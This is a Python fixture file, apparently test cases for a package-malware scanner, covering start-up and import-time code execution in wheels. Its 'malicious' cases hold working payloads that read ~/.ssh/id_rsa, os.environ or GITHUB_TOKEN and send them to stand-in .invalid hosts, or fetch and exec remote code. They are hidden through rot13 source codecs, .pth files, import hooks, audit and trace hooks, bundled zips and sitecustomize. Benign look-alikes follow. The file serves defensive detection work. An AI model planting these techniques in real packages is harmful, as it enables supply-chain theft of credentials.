"""Interpreter start-up and import machinery: code that runs because Python starts or
imports, not because anyone calls it (source codecs, import hooks, audit hooks, bundled
zips on sys.path, start-up files in a wheel's data)."""

from __future__ import annotations

import codecs
import io
import zipfile

from techniques import Case


def zipped(files: dict[str, str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, text in files.items():
            zf.writestr(name, text)
    return buf.getvalue()


STEAL = (
    "import os, urllib.request\n"
    "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    "urllib.request.urlopen('https://k.x.invalid/u', data=key.encode())\n"
)
CODEC = (
    "import codecs\n\n\n"
    "def _search(name):\n"
    "    if name != 'pkgcodec':\n        return None\n"
    "    def decode(data, errors='strict'):\n"
    "        return codecs.decode(bytes(data).decode('latin-1'), 'rot13'), len(data)\n"
    "    return codecs.CodecInfo(name='pkgcodec', encode=codecs.utf_8_encode, decode=decode)\n\n\n"
    "codecs.register(_search)\n"
)
FINDER = (
    "import sys, urllib.request\n"
    "from importlib.abc import Loader, MetaPathFinder\n"
    "from importlib.util import spec_from_loader\n\n\n"
    "class _Remote(MetaPathFinder, Loader):\n"
    "    def find_spec(self, name, path=None, target=None):\n"
    "        if name.startswith('{mod}'):\n"
    "            return spec_from_loader(name, self)\n"
    "        return None\n\n"
    "    def create_module(self, spec):\n        return None\n\n"
    "    def exec_module(self, module):\n"
    "        code = urllib.request.urlopen('https://mods.x.invalid/' + module.__name__).read()\n"
    "        exec(code, module.__dict__)\n\n\n"
    "{install}\n"
)

CASES = [
    Case("source in a codec that a .pth registers at start-up", "codec-pth", {
        "zz_codec.pth": "import _pkgcodec\n",
        "_pkgcodec.py": CODEC,
        "codecpth/__init__.py": ("# -*- coding: pkgcodec -*-\n"
                                 + codecs.encode(STEAL, "rot13")),
    }, "malicious", ("PV112",), kind="wheel"),
    Case("source in a codec registered by the package's own __init__", "codec-init", {
        "codecinit/__init__.py": CODEC.replace("codecs.register(_search)",
                                               "codecs.register(_search)\nfrom . import core"),
        "codecinit/core.py": "# vim: set fileencoding=pkgcodec :\n"
                             + codecs.encode(STEAL, "rot13"),
    }, "malicious", ("PV112",), kind="wheel"),
    Case("sys.meta_path finder that loads modules from a URL", "metapath", {
        "metapath/__init__.py": FINDER.format(
            mod="metapath_ext", install="sys.meta_path.insert(0, _Remote())"),
    }, "malicious", ("PV202",), kind="wheel"),
    Case("sys.path_hooks entry whose loader fetches code", "pathhook", {
        "pathhook/__init__.py": FINDER.format(
            mod="pathhook_ext",
            install="sys.path_hooks.append(lambda entry: _Remote())\n"
                    "sys.path_importer_cache.clear()"),
    }, "malicious", ("PV202",), kind="wheel"),
    Case("audit hook that sends the environment on the first event", "audithook", {
        "audithook/__init__.py": (
            "import json, os, sys, urllib.request\n\n_sent = []\n\n\n"
            "def _hook(event, args):\n"
            "    if _sent:\n        return\n    _sent.append(1)\n"
            "    urllib.request.urlopen('https://a.x.invalid/e', "
            "data=json.dumps(dict(os.environ)).encode())\n\n\n"
            "sys.addaudithook(_hook)\n"
        ),
    }, "malicious", ("PV303",), kind="wheel"),
    Case("trace function set at import steals on the first call", "settrace", {
        "settrace/__init__.py": (
            "import os, sys, threading, urllib.request\n\n\n"
            "def _tracer(frame, event, arg):\n"
            "    sys.settrace(None)\n"
            "    tok = os.environ.get('GITHUB_TOKEN', '')\n"
            "    urllib.request.urlopen('https://t.x.invalid/?t=' + tok)\n\n\n"
            "threading.settrace(_tracer)\n"
        ),
    }, "malicious", ("PV303",), kind="wheel"),
    Case("module imported from a zip bundled in the package", "zipboot", {
        "zipboot/__init__.py": (
            "import os, sys\n"
            "sys.path.insert(0, os.path.join(os.path.dirname(__file__), 'vendor.zip'))\n"
            "import _zipboot_sync  # noqa\n"
        ),
        "zipboot/vendor.zip": zipped({"_zipboot_sync.py": STEAL}),
    }, "malicious", ("PV303",), kind="wheel"),
    Case("sitecustomize installed through the wheel's purelib data", "datasite", {
        "datasite/__init__.py": "",
        "datasite-1.0.data/purelib/sitecustomize.py": STEAL,
    }, "malicious", ("PV303",), kind="wheel"),
    Case(".pth line that execs a data file installed under the prefix", "pth-datafile", {
        "pthdata.pth": ("import os, sys; exec(open(os.path.join(sys.prefix, 'share', "
                        "'pthdata', 'boot.cfg')).read())\n"),
        "pthdata-1.0.data/data/share/pthdata/boot.cfg": STEAL,
    }, "malicious", ("PV303",), kind="wheel"),
    Case("codec registered through an aliased codecs module", "codecalias", {
        "codecalias/__init__.py": (
            "import codecs as c\n\n\ndef _s(n):\n    if n == 'pkgx':\n"
            "        return c.lookup('rot13')\n\n\nc.register(_s)\nfrom . import core\n"),
        "codecalias/core.py": "# coding: pkgx\n" + codecs.encode(STEAL, "rot13"),
    }, "malicious", ("PV112",), kind="wheel"),
    Case("module loaded from a bundled zip by zipimport.zipimporter", "zipimp", {
        "zipimp/__init__.py": (
            "import os, zipimport\n"
            "_z = zipimport.zipimporter(os.path.join(os.path.dirname(__file__), 'plugins.zip'))\n"
            "_m = _z.load_module('_zsync')\n"),
        "zipimp/plugins.zip": zipped({"_zsync.py": STEAL}),
    }, "malicious", ("PV303",), kind="wheel"),
    # benign look-alikes
    Case("codec back-port registered from a .pth for users' files", "fstrings-backport", {
        "aaa_fstrings_backport.pth": "import fstrings_backport; fstrings_backport.register()\n",
        "fstrings_backport.py": (
            "# -*- coding: utf-8 -*-\nimport codecs\nimport encodings.utf_8\n\n\n"
            "def decode(b, errors='strict'):\n"
            "    text, n = encodings.utf_8.decode(b, errors)\n"
            "    return text.replace('f\"', '\"'), n\n\n\n"
            "def search(name):\n    if name == 'fstrings_backport':\n"
            "        return codecs.CodecInfo(name=name, encode=encodings.utf_8.encode, "
            "decode=decode)\n    return None\n\n\n"
            "def register():\n    codecs.register(search)\n"
        ),
    }, "benign", kind="wheel"),
    Case("lazy submodule finder on sys.meta_path (six-style)", "lazymods", {
        "lazymods/__init__.py": (
            "import importlib, sys\nfrom importlib.abc import MetaPathFinder\n"
            "from importlib.util import spec_from_loader\n\n\n"
            "class _Lazy(MetaPathFinder):\n"
            "    def find_spec(self, name, path=None, target=None):\n"
            "        if name == 'lazymods.moves.json':\n"
            "            return importlib.util.find_spec('json')\n        return None\n\n\n"
            "sys.meta_path.append(_Lazy())\n"
        ),
    }, "benign", kind="wheel"),
    Case("setuptools-style .pth shim guarded by an environment switch", "distshim", {
        "distshim-precedence.pth": (
            "import os; var = 'DISTSHIM_USE'; enabled = os.environ.get(var, 'local') == "
            "'local'; enabled and __import__('_distshim_hack').add_shim(); \n"),
        "_distshim_hack/__init__.py": (
            "import sys\n\n\nclass _Finder:\n"
            "    def find_spec(self, fullname, path, target=None):\n"
            "        if fullname != 'distutils':\n            return None\n"
            "        import importlib\n        return importlib.util.find_spec('distshim._d')\n\n\n"
            "def add_shim():\n    sys.meta_path.insert(0, _Finder())\n"
        ),
        "distshim/__init__.py": "",
        "distshim/_d.py": "VERSION = 1\n",
    }, "benign", kind="wheel"),
    Case("modules written for a codec back-port the package depends on", "fstrings-user", {
        "fsuser/__init__.py": "# -*- coding: future_fstrings -*-\nNAME = 'x'\nGREETING = f'hi {NAME}'\n",
        "fsuser/util.py": "# -*- coding: utf-8 -*-\nimport codecs\n\nREAD = codecs.open\n",
    }, "benign", kind="wheel"),
]
